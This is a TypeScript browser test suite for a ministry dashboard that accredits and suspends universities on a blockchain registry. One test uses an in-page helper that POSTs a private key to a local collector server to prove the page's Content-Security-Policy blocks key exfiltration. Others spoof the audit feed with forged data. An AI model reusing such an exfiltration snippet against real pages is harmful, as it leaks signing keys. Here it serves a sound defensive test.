import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { Server } from "node:http";
import { tmpdir } from "node:os";
import path from "node:path";
import { expect } from "chai";
import { encryptKeystoreJson } from "ethers";
import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, it } from "vitest";
import { buildMinistryDashboard } from "../../scripts/lib/ministry-dashboard";
import { headersFile, serveStaticFolder } from "../../scripts/lib/static-site";
import type { StaticSite } from "../../scripts/lib/static-site";
import { closeTabs, launchChromium, openTab } from "../helpers/browser";
import type { Tab, TabOptions } from "../helpers/browser";
import { accreditUniversity, developmentWallet, freePort, startTestChain } from "../helpers/chain";
import type { TestChain, TestUniversity } from "../helpers/chain";
import { fixtureGraduates } from "../helpers/graduates";
import { issueBatch } from "../helpers/issue";
import { apiCall, eventually, startTestServer } from "../helpers/server";
import type { TestServer } from "../helpers/server";
import { buildWebPages } from "../helpers/web";
import { injectWallet } from "../helpers/wallet";
import type { TestWallet } from "../helpers/wallet";

const KEYSTORE_PASSWORD = "ministry of jordan, test only";
const REASON = "Degrees sold without examinations (inspection 2026/114)";
/** Development accounts: 0 is the ALECSO authority, 1 the ministry of Jordan, 2 the university's operator. */
const AUTHORITY = 0;
const MINISTRY = 1;

/**
 * The ministry dashboard in real Chromium, against a real node: built as static files for the
 * ministry's own origin and signing through an injected wallet (or a keystore there), and the
 * read-only copy a university's issuance server serves.
 */
describe("ministry dashboard", () => {
  let chain: TestChain;
  let university: TestUniversity;
  let server: TestServer;
  let browser: Browser;
  let month: string;
  /** The ministry's own origin, serving the build with its `_headers`. */
  let ministrySite: StaticSite;
  /** The same build copied to another origin by a host that sends no headers. */
  let copySite: StaticSite;
  /** Stands for any origin a script would send a key to; counts what reaches it. */
  let elsewhere: Server;
  let elsewhereUrl: string;
  const received: string[] = [];
  let policy: string;
  const dir = mkdtempSync(path.join(tmpdir(), "tasdiq-ministry-"));
  const tabs: Tab[] = [];

  beforeAll(async () => {
    const webDist = await buildWebPages();
    chain = await startTestChain();
    university = await accreditUniversity(chain, { ministryIndex: MINISTRY, operatorIndex: 2 });
    server = await startTestServer(chain, [university], { webDist, audit: true });
    const port = await freePort();
    const built = await buildMinistryDashboard(path.join(dir, "dashboard"), {
      origin: `http://127.0.0.1:${port}`,
      rpcUrl: chain.node.url,
      deployment: chain.deployment,
      auditUrl: `${server.url}/api/audit/overview`,
      keystore: true,
    });
    policy = built.policy;
    ministrySite = await serveStaticFolder(built.dir, { headers: headersFile(built.dir), port });
    copySite = await serveStaticFolder(built.dir);
    elsewhere = createServer((request, response) => {
      received.push(request.url ?? "");
      response.writeHead(200, { "access-control-allow-origin": "*" }).end();
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
    const address = elsewhere.address();
    elsewhereUrl = `http://127.0.0.1:${typeof address === "object" && address ? address.port : 0}`;
    browser = await launchChromium();
    const latest = await chain.provider.getBlock("latest");
    month = new Date((latest?.timestamp ?? 0) * 1000).toISOString().slice(0, 7);
  });
  afterEach(() => closeTabs(tabs));
  afterAll(async () => {
    await browser?.close();
    await ministrySite?.stop();
    await copySite?.stop();
    elsewhere?.closeAllConnections();
    await new Promise((resolve) => (elsewhere ? elsewhere.close(resolve) : resolve(undefined)));
    await server?.stop();
    await chain?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  async function newTab(options: TabOptions = {}): Promise<Page> {
    const tab = await openTab(browser, options);
    tabs.push(tab);
    return tab.page;
  }

  /** Opens `url` and waits for the test university's card. */
  async function open(page: Page, url: string): Promise<Page> {
    await page.goto(url);
    await page.locator(`[data-university-id="${university.id}"]`).waitFor();
    return page;
  }

  /** The ministry's own dashboard with development account `index` in an injected wallet, connected. */
  async function withWallet(index: number, expected: string): Promise<{ page: Page; wallet: TestWallet }> {
    const page = await newTab();
    const wallet = await injectWallet(page, chain, developmentWallet(index));
    await open(page, `${ministrySite.origin}/?country=JO`);
    await page.getByRole("button", { name: "Connect a wallet" }).click();
    await page.locator("#key-status", { hasText: expected }).waitFor();
    return { page, wallet };
  }

  /** The ministry's own dashboard with the keystore of development account `index` opened in it. */
  async function withKeystore(index: number, expected: string): Promise<Page> {
    const page = await open(await newTab(), `${ministrySite.origin}/?country=JO`);
    const account = developmentWallet(index);
    const file = path.join(dir, `account-${index}.json`);
    writeFileSync(
      file,
      await encryptKeystoreJson({ address: account.address, privateKey: account.privateKey }, KEYSTORE_PASSWORD, {
        scrypt: { N: 1 << 12 },
      }),
    );
    await page.getByLabel("Keystore file (.json)").setInputFiles(file);
    await page.getByLabel("Password").fill(KEYSTORE_PASSWORD);
    await page.getByRole("button", { name: "Open the key" }).click();
    await page.locator("#key-status", { hasText: expected }).waitFor();
    return page;
  }

  /** Confirms the transaction the dialog offers and waits for its outcome. */
  async function signConfirmed(page: Page): Promise<void> {
    await page.getByRole("button", { name: "Sign and send" }).click();
    await page.locator("#message", { hasText: /^(Done|The transaction failed)/ }).waitFor({ timeout: 30_000 });
    expect(await page.locator("#message").textContent()).to.match(/^Done: the transaction is in block \d+\.$/);
  }

  /** The certificates the page shows for the university this month (0 when it shows none). */
  const shownThisMonth = (page: Page): Promise<number> =>
    page.evaluate(
      ([id, m]) =>
        Number(
          document
            .querySelector(
              `[data-figures=anchoring] tr[data-university="${id}"][data-month="${m}"] [data-certificates]`,
            )
            ?.getAttribute("data-certificates") ?? 0,
        ),
      [String(university.id), month] as const,
    );

  /** Sends `secret` from the page to another origin; says whether the fetch failed and what the page's policy reported. */
  const exfiltrate = (page: Page, secret: string): Promise<{ failed: boolean; blocked: string[] }> =>
    page.evaluate(
      async ([target, body]) => {
        const blocked: string[] = [];
        document.addEventListener("securitypolicyviolation", (event) =>
          blocked.push(`${event.effectiveDirective} ${event.blockedURI}`),
        );
        let failed = false;
        await fetch(target, { method: "POST", body }).catch(() => (failed = true));
        await new Promise((resolve) => setTimeout(resolve, 100));
        return { failed, blocked };
      },
      [`${elsewhereUrl}/collect`, secret] as const,
    );

  it("serves a read-only copy on the issuance server: figures, no signing, and where the ministry's dashboard is", async () => {
    const page = await newTab();
    const wallet = await injectWallet(page, chain, developmentWallet(MINISTRY));
    const response = await page.goto(`${server.url}/ministry?country=JO`);
    await page.locator(`[data-university-id="${university.id}"]`).waitFor();
    expect(response?.headers()["content-security-policy"]).to.include("connect-src 'self';");
    expect(await page.locator("#origin").textContent()).to.include(
      `This copy is served by ${server.url}, a university's issuance server: it shows the figures and never signs.`,
    );
    // Neither a keystore field nor a wallet button is in the page, even with a wallet in the browser.
    expect(await page.locator("#keystore, #password, #wallet-connect, #key-panel").count()).to.equal(0);
    expect(await page.locator("form[data-action=suspend], [data-action=reinstate]").count()).to.equal(0);
    expect(wallet.requests).to.deep.equal([]);
    // The built file under its own name carries no configuration: taken for a server's copy too.
    await page.goto(`${server.url}/ministry/index.html?country=JO`);
    await page.locator("#origin", { hasText: "a university's issuance server" }).waitFor();
    expect(await page.locator("#keystore, #wallet-connect").count()).to.equal(0);
    await page.goto(`${server.url}/ministry?country=JO`);
    await page.locator(`[data-university-id="${university.id}"]`).waitFor();

    const before = await shownThisMonth(page);
    await issueBatch(chain, university, fixtureGraduates().slice(0, 3));
    const after = await eventually(
      async () => {
        await page.getByRole("button", { name: "Show" }).click();
        await page.waitForFunction(() => !document.querySelector("#universities[aria-busy]"));
        const shown = await shownThisMonth(page);
        return shown === before + 3 ? shown : undefined;
      },
      20_000,
      "the new batch in the monthly figures",
    );
    expect(
      await page
        .locator(`rect.chart__bar[data-university="${university.id}"][data-month="${month}"]`)
        .getAttribute("data-certificates"),
    ).to.equal(String(after));
  });

  it("names the ministry's own dashboard from the read-only copy when the server is told where it is", async () => {
    server.context.config.ministryDashboardUrl = `${ministrySite.origin}/`;
    try {
      const page = await newTab();
      await page.goto(`${server.url}/ministry`);
      await page.locator("#origin a").waitFor();
      expect(await page.locator("#origin").textContent()).to.include(
        `The ministry's dashboard: ${ministrySite.origin}/`,
      );
      expect(await page.locator("#origin a").getAttribute("href")).to.equal(`${ministrySite.origin}/`);
    } finally {
      delete server.context.config.ministryDashboardUrl;
    }
  });

  it("builds a page whose policy lets it connect only to its RPC and audit endpoint, as a header and in the page", async () => {
    const page = await newTab();
    const response = await page.goto(`${ministrySite.origin}/`);
    const header = response?.headers()["content-security-policy"] ?? "";
    const connect = /connect-src ([^;]+)/.exec(header)?.[1]?.split(" ");
    expect(connect).to.have.members([new URL(chain.node.url).origin, new URL(server.url).origin]);
    expect(header).not.to.match(/https:|\*|'unsafe/);
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
    expect(meta).to.equal(policy.replace("; frame-ancestors 'none'", ""));
    expect(await page.locator("#origin").textContent()).to.equal(
      `This dashboard is served from ${ministrySite.origin}, the ministry's own origin it was built for. It signs here and may connect only to: ${connect?.join(", ")}`,
    );
  });

  it("lets no script of the dashboard send anything to another origin, whether the host sends the policy or only the page carries it", async () => {
    // The ministry's host sends the policy and the page carries it too: both report. The copy's host sends none: the page's own holds.
    for (const [url, policies] of [
      [`${ministrySite.origin}/`, 2],
      [`${copySite.origin}/`, 1],
    ] as const) {
      // Not a tab of `tabs`: the policy violation is what this test provokes.
      const tab = await openTab(browser);
      try {
        await open(tab.page, url);
        const { failed, blocked } = await exfiltrate(tab.page, developmentWallet(MINISTRY).privateKey);
        expect(failed, url).to.equal(true);
        expect(blocked, url).to.deep.equal(Array(policies).fill(`connect-src ${elsewhereUrl}/collect`));
      } finally {
        await tab.close();
      }
    }
    expect(received).to.deep.equal([]);
  });

  it("signs nothing when its build is served from another origin than the one it was built for", async () => {
    const page = await newTab();
    const wallet = await injectWallet(page, chain, developmentWallet(MINISTRY));
    await open(page, `${copySite.origin}/?country=JO`);
    expect(await page.locator("#origin").textContent()).to.include(
      `This dashboard was built for ${ministrySite.origin} but is served from ${copySite.origin}: it signs nothing here.`,
    );
    expect(await page.locator("#keystore, #wallet-connect").count()).to.equal(0);
    expect(wallet.requests).to.deep.equal([]);
  });

  it("suspends the university with a reason through the injected wallet, after showing the registry's own record", async () => {
    const { page, wallet } = await withWallet(MINISTRY, "Signed in as the ministry of Jordan");
    expect(await page.locator("#key-status").textContent()).to.include("Your wallet signs; the key stays in it.");
    const card = page.locator(`[data-university-id="${university.id}"]`);
    await card.getByLabel("Reason for the suspension").fill(REASON);
    await card.getByRole("button", { name: "Suspend" }).click();
    const dialog = page.locator("#confirm");
    await dialog.getByText("As the registry on the chain records it now:").waitFor();
    expect(await dialog.textContent())
      .to.include("The University of Jordan")
      .and.include(university.operator.address)
      .and.include(REASON)
      .and.include("Accredited");
    await signConfirmed(page);
    expect(wallet.requests).to.include("eth_sendTransaction");

    await page.locator(`[data-university-id="${university.id}"][data-state="suspended"]`).waitFor();
    const history = page.locator(`[data-university-id="${university.id}"] .history__item`);
    expect(await history.count()).to.equal(1);
    expect(await history.first().getAttribute("data-suspension-reason")).to.equal(REASON);
    expect(await history.first().textContent()).to.include(`suspended: “${REASON}”`);
    expect(await page.locator("#suspensions").textContent())
      .to.include(REASON)
      .and.include("still suspended");
    expect((await chain.issuerRegistry.university(university.id)).accredited).to.equal(false);
    await page.locator(`[data-university-id="${university.id}"] [data-action=reinstate]`).waitFor();
  });

  it("accredits a new university and reinstates the suspended one through the wallet", async () => {
    const { page } = await withWallet(MINISTRY, "Signed in as the ministry of Jordan");
    const operator = developmentWallet(7).address;
    await page.getByLabel("Operator account (0x…)").fill(operator);
    await page.getByLabel("Name in Arabic").fill("جامعة مؤتة");
    await page.getByLabel("Name in English").fill("Mutah University");
    await page.getByLabel("Name in French").fill("Université Mutah");
    await page.getByLabel("Address of its issuance server (https://…)").fill("https://registrar.mutah.example");
    await page.getByRole("button", { name: "Accredit" }).click();
    await page
      .locator("#confirm", { hasText: "The registry has no university run by this operator account yet." })
      .waitFor();
    await signConfirmed(page);
    const id = Number(await chain.issuerRegistry.universityOf(operator));
    expect(id).to.be.greaterThan(0);
    await page
      .locator(`[data-university-id="${id}"][data-state="accredited"]`, { hasText: "Mutah University" })
      .waitFor();

    // The same operator cannot be offered twice: the registry is asked first.
    await page.getByLabel("Operator account (0x…)").fill(operator);
    await page.getByLabel("Name in Arabic").fill("جامعة مؤتة");
    await page.getByLabel("Name in English").fill("Mutah University");
    await page.getByLabel("Name in French").fill("Université Mutah");
    await page.getByLabel("Address of its issuance server (https://…)").fill("https://registrar.mutah.example");
    await page.getByRole("button", { name: "Accredit" }).click();
    await page
      .locator("#message", { hasText: `The account ${operator} already operates university No. ${id}.` })
      .waitFor();

    await page.locator(`[data-university-id="${university.id}"] [data-action=reinstate]`).click();
    await page.locator("#confirm", { hasText: "Suspended" }).waitFor();
    await signConfirmed(page);
    await page.locator(`[data-university-id="${university.id}"][data-state="accredited"]`).waitFor();
    expect(await page.locator(`[data-university-id="${university.id}"] .history__item`).count()).to.equal(2);
    expect((await chain.issuerRegistry.university(university.id)).accredited).to.equal(true);
  });

  it("shows the registry's record, not the audit figures, before signing: a lying audit feed changes nothing", async () => {
    const { page } = await withWallet(MINISTRY, "Signed in as the ministry of Jordan");
    // The figures claim another name for the university.
    await page.route(`${server.url}/api/audit/overview**`, async (route) => {
      const response = await route.fetch();
      const body = await response.json();
      for (const shown of body.universities)
        if (shown.id === university.id)
          shown.names = { ar: "جامعة مزورة", en: "Forged University", fr: "Université falsifiée" };
      await route.fulfill({ response, json: body });
    });
    await page.getByRole("button", { name: "Show" }).click();
    const card = page.locator(`[data-university-id="${university.id}"]`, { hasText: "Forged University" });
    await card.waitFor();
    await card.getByLabel("Reason for the suspension").fill("test of the confirmation");
    await card.getByRole("button", { name: "Suspend" }).click();
    const dialog = page.locator("#confirm");
    await dialog.getByText("The University of Jordan").waitFor();
    expect(await dialog.textContent()).not.to.include("Forged");
    await dialog.getByRole("button", { name: "Cancel" }).click();
    await page.locator("#message", { hasText: "Nothing was signed." }).waitFor();
    expect((await chain.issuerRegistry.university(university.id)).accredited).to.equal(true);
  });

  it("checks the university's country on the chain: figures placing it in another country steer no ministry", async () => {
    const egypt = developmentWallet(5);
    const names = {
      ar: "وزارة التعليم العالي المصرية",
      en: "Ministry of Higher Education of Egypt",
      fr: "Ministère de l'Enseignement supérieur d'Égypte",
    };
    await (await chain.issuerRegistry.connect(chain.authority).registerMinistry("0x4547", egypt.address, names)).wait();
    const { page, wallet } = await withWallet(5, "Signed in as the ministry of Egypt");
    await page.route(`${server.url}/api/audit/overview**`, async (route) => {
      const response = await route.fetch({ url: route.request().url().replace("country=EG", "country=JO") });
      const body = await response.json();
      for (const shown of body.universities) shown.country = "EG";
      await route.fulfill({ response, json: body });
    });
    await page.getByRole("button", { name: "Show" }).click();
    const card = page.locator(`[data-university-id="${university.id}"] form[data-action=suspend]`);
    await card.getByLabel("Reason for the suspension").fill("steered by the figures");
    await card.getByRole("button", { name: "Suspend" }).click();
    await page
      .locator("#message", {
        hasText: `On the chain, university No. ${university.id} is in Jordan, not in your ministry's country.`,
      })
      .waitFor();
    expect(await page.locator("#confirm").isVisible()).to.equal(false);
    expect(wallet.requests).not.to.include("eth_sendTransaction");
  });

  it("gives an account that is neither a ministry nor the authority nothing to sign", async () => {
    const { page } = await withWallet(2, "is neither a registered ministry nor the ALECSO authority");
    await page.locator("[data-university-id]").first().waitFor();
    expect(await page.locator("form[data-action=suspend], [data-action=reinstate]").count()).to.equal(0);
    expect(await page.locator("#accredit").isHidden()).to.equal(true);
  });

  it("refuses a wallet on another chain than the dashboard's deployment", async () => {
    const page = await newTab();
    const wallet = await injectWallet(page, chain, developmentWallet(MINISTRY), { chainId: 1 });
    await open(page, `${ministrySite.origin}/?country=JO`);
    await page.getByRole("button", { name: "Connect a wallet" }).click();
    await page
      .locator("#message", {
        hasText: `The wallet is on chain 1; switch it to chain ${chain.deployment.chainId} and connect again.`,
      })
      .waitFor();
    expect(wallet.requests).to.deep.equal(["eth_chainId"]);
    expect(await page.locator("form[data-action=suspend]").count()).to.equal(0);
  });

  it("still opens the ministry's keystore on its own origin, and signs with it", async () => {
    const page = await withKeystore(MINISTRY, "Signed in as the ministry of Jordan");
    expect(await page.locator("#password").inputValue()).to.equal("");
    expect(await page.locator("#key-status").textContent()).to.include(
      "The keystore is open in this page until you close it.",
    );
    const mutah = Number(await chain.issuerRegistry.universityOf(developmentWallet(7).address));
    const card = page.locator(`[data-university-id="${mutah}"]`);
    await card.getByLabel("Reason for the suspension").fill("Accreditation file incomplete");
    await card.getByRole("button", { name: "Suspend" }).click();
    await page
      .locator("#confirm", { hasText: "The transaction is signed with the keystore open in this page." })
      .waitFor();
    await signConfirmed(page);
    expect((await chain.issuerRegistry.university(mutah)).accredited).to.equal(false);
  });

  it("says so when the keystore's password is wrong, and keeps no key open", async () => {
    const page = await withKeystore(MINISTRY, "Signed in as the ministry of Jordan");
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.getByLabel("Keystore file (.json)").setInputFiles(path.join(dir, `account-${MINISTRY}.json`));
    await page.getByLabel("Password").fill("not the password");
    await page.getByRole("button", { name: "Open the key" }).click();
    await page
      .locator("#message", { hasText: "The key could not be opened: wrong password or not a keystore file." })
      .waitFor();
    expect(await page.locator("form[data-action=suspend], [data-action=reinstate]").count()).to.equal(0);
  });

  it("lets the ALECSO authority read all countries through its wallet, without accreditation actions", async () => {
    const { page } = await withWallet(AUTHORITY, "Signed in as the ALECSO authority");
    expect(await page.locator("#country").inputValue()).to.equal("all");
    await page.locator("[data-university-id]").first().waitFor();
    expect(await page.locator("form[data-action=suspend], [data-action=reinstate]").count()).to.equal(0);
    expect(await page.locator("#accredit").isHidden()).to.equal(true);
  });

  it("answers the audit API with figures consistent with the chain, to any origin", async () => {
    const { status, body } = await apiCall(server.url, "GET", "/api/audit/overview?country=jo");
    expect(status).to.equal(200);
    expect((await fetch(`${server.url}/api/audit/overview`)).headers.get("access-control-allow-origin")).to.equal("*");
    const anchored = await chain.certificateRegistry.queryFilter(
      chain.certificateRegistry.filters.Anchored(university.id),
    );
    const onChain = anchored.reduce((sum, event) => sum + Number(event.args.count), 0);
    const shown = body.universities.find((u: { id: number }) => u.id === university.id);
    expect(shown.certificates).to.equal(onChain);
    expect(shown.batches).to.equal(anchored.length);
    expect(shown.state).to.equal(
      (await chain.issuerRegistry.university(university.id)).accredited ? "accredited" : "suspended",
    );
    const history = await chain.issuerRegistry.accreditationHistory(university.id);
    expect(shown.accreditation.map((i: { from: number; until: number }) => [i.from, i.until])).to.deep.equal(
      history.map((i) => [Number(i.from), Number(i.until)]),
    );
    const suspensions = body.suspensions.filter((s: { universityId: number }) => s.universityId === university.id);
    expect(
      suspensions.map((s: { reason: string; reinstatedAt: number }) => [
        s.reason,
        s.reinstatedAt === Number(history[1]?.from),
      ]),
    ).to.deep.equal([[REASON, true]]);

    expect((await apiCall(server.url, "GET", "/api/audit/overview?country=EG")).body.universities).to.deep.equal([]);
    expect((await apiCall(server.url, "GET", "/api/audit/overview?country=all")).body.universities).to.have.length(2);
    expect((await apiCall(server.url, "GET", "/api/audit/overview?country=XX")).status).to.equal(400);
    expect((await apiCall(server.url, "GET", "/api/audit/overview?from=2026-13-01")).status).to.equal(400);
    const period = await apiCall(server.url, "GET", "/api/audit/overview?country=JO&from=2000-01-01&to=2000-12-31");
    expect(period.body.universities.find((u: { id: number }) => u.id === university.id).certificates).to.equal(0);
  });

  it("speaks Arabic right to left and fits a 360 px screen", async () => {
    const page = await open(
      await newTab({ locale: "ar-JO", viewport: { width: 360, height: 780 } }),
      `${ministrySite.origin}/?country=JO`,
    );
    expect(await page.evaluate(() => [document.documentElement.lang, document.documentElement.dir])).to.deep.equal([
      "ar",
      "rtl",
    ]);
    expect(await page.locator("h1").textContent()).to.equal("لوحة الوزارة");
    expect(await page.locator(`[data-university-id="${university.id}"] .badge`).textContent()).to.equal("معتمدة");
    expect(await page.getByRole("button", { name: "ربط المحفظة" }).isVisible()).to.equal(true);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).to.be.at.most(360);
  });
});
